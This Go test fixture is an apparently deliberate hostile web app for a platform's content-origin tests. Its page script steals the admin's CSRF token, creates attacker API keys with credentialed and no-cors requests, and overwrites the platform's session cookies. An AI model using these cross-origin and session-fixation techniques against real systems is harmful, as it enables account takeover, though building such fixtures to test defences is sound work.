// Command attack is the hostile app of the content-origin tests (issue
// 23): a publisher's app whose page, opened by a logged-in administrator,
// tries to act as that administrator, and which also does what an honest
// app does (its own fetch, XHR, WebSocket and cookies), so the tests can
// tell that the defences stop the one and not the other. It listens on
// $PORT.
//
//	GET  /          the page; ?main=ORIGIN names the dashboard's origin. Its
//	                script runs every attempt and puts the outcomes, as
//	                JSON, in window.__results and in #results ("done" in
//	                #done when finished)
//	GET  /set       sets the app's cookie appcookie=1 and tries to set
//	                podium_session, podium_login_csrf and podium_content
//	GET  /cookies   JSON: the Cookie header the app received
//	POST /echo      answers the body it got
//	GET  /ws        WebSocket (whose 101 answer tries to set podium_session):
//	                answers each message with "echo:message"
package main

import (
	"encoding/json"
	"io"
	"log"
	"net/http"
	"os"

	"github.com/coder/websocket"
)

const page = `<!doctype html>
<meta charset="utf-8">
<title>innocent app</title>
<h1 id="app">innocent app</h1>
<pre id="results"></pre>
<p id="done"></p>
<script>
(async () => {
  const main = new URLSearchParams(location.search).get('main') || '';
  const here = location.pathname.replace(/[^/]*$/, '');
  const r = {};
  async function attempt(name, f) {
    try { r[name] = await f(); } catch (e) { r[name] = 'error: ' + e; }
  }
  async function show(x) { return x.status + ' ' + (await x.text()).slice(0, 4000); }
  // 1. Read who is looking (the answer carries the session's CSRF token).
  await attempt('user_here', async () => show(await fetch('/__api__/v1/user', {credentials: 'include'})));
  await attempt('user_main', async () => show(await fetch(main + '/__api__/v1/user', {credentials: 'include'})));
  let csrf = '';
  for (const k of ['user_here', 'user_main']) {
    const m = /"csrf_token":"([^"]+)"/.exec(String(r[k]));
    if (m) csrf = m[1];
  }
  r.csrf_found = csrf !== '';
  // 2. Create an API key for the attacker.
  for (const [name, base] of [['key_here', ''], ['key_main', main]]) {
    await attempt(name, async () => show(await fetch(base + '/__api__/v1/keys', {
      method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf},
      body: JSON.stringify({name: 'pwned-' + name})})));
  }
  // A "simple" request needs no preflight: the browser sends it whatever
  // CORS says, and only hides the answer.
  await attempt('key_main_simple', async () => {
    await fetch(main + '/__api__/v1/keys', {method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'application/x-www-form-urlencoded'},
      body: 'csrf_token=' + encodeURIComponent(csrf) + '&name=pwned-simple'});
    return 'sent';
  });
  // 3. Set Podium's session cookie (log the viewer out, or into the
  // attacker's account): from script, and from the app's answers.
  document.cookie = 'podium_session=attacker-js; path=/';
  await attempt('set', async () => (await fetch(here + 'set', {credentials: 'include'})).status);
  // 4. What the app itself needs.
  await attempt('own_fetch', async () => show(await fetch(here + 'echo', {method: 'POST', body: 'hello app'})));
  await attempt('own_xhr', () => new Promise((resolve, reject) => {
    const x = new XMLHttpRequest();
    x.open('GET', here + 'cookies');
    x.onload = () => resolve(x.status + ' ' + x.responseText);
    x.onerror = () => reject('xhr failed');
    x.send();
  }));
  await attempt('own_ws', () => new Promise((resolve, reject) => {
    const ws = new WebSocket(location.origin.replace(/^http/, 'ws') + here + 'ws');
    ws.onopen = () => ws.send('ping');
    ws.onmessage = (e) => { resolve(String(e.data)); ws.close(); };
    ws.onerror = () => reject('websocket failed');
    setTimeout(() => reject('websocket timeout'), 15000);
  }));
  await attempt('own_cookies', async () => (await (await fetch(here + 'cookies')).json()).cookie);
  r.document_cookie = document.cookie;
  window.__results = r;
  document.getElementById('results').textContent = JSON.stringify(r, null, 1);
  document.getElementById('done').textContent = 'done';
})();
</script>
`

func main() {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, page)
	})
	mux.HandleFunc("GET /set", func(w http.ResponseWriter, r *http.Request) {
		for _, c := range []string{"appcookie=1; Path=/", "podium_session=attacker-app; Path=/; HttpOnly",
			"podium_login_csrf=attacker; Path=/__login__", "podium_content=attacker; Path=/"} {
			w.Header().Add("Set-Cookie", c)
		}
		_, _ = io.WriteString(w, "ok")
	})
	mux.HandleFunc("GET /cookies", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]string{"cookie": r.Header.Get("Cookie")})
	})
	mux.HandleFunc("POST /echo", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		_, _ = w.Write(b)
	})
	mux.HandleFunc("GET /ws", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Add("Set-Cookie", "podium_session=attacker-ws; Path=/")
		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		defer c.CloseNow()
		for {
			typ, b, err := c.Read(r.Context())
			if err != nil {
				return
			}
			if err := c.Write(r.Context(), typ, append([]byte("echo:"), b...)); err != nil {
				return
			}
		}
	})
	log.Fatal(http.ListenAndServe("127.0.0.1:"+os.Getenv("PORT"), mux))
}
